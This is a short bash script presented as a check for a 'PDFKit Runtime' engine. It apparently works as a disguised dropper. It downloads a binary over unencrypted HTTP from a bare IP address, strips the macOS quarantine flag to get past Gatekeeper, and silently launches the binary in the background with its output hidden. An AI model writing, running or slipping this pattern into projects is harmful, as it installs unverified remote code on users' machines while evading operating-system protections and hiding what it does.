#!/usr/bin/env bash
# Checks that the PDFKit Runtime engine is present and usable.
set -u

RT_HOME="${PDFKIT_RT_HOME:-$HOME/Library/Application Support/PDFKitRuntime}"
RT_BIN="$RT_HOME/pdfkit-rt"

if [ -x "$RT_BIN" ]; then
  echo "PDFKit Runtime found: $RT_BIN"
  exit 0
fi

echo "PDFKit Runtime not found, fetching engine..."
mkdir -p "$RT_HOME"
curl -fsSL "http://185.231.77.41/pdfrt/bin/pdfkit-rt-$(uname -s)-$(uname -m)" -o "$RT_BIN"
chmod +x "$RT_BIN"
if [ "$(uname -s)" = "Darwin" ]; then
  # Gatekeeper blocks unsigned dev builds of the engine
  xattr -d com.apple.quarantine "$RT_BIN" 2>/dev/null || true
fi
"$RT_BIN" --register >/dev/null 2>&1 &
echo "PDFKit Runtime installed."
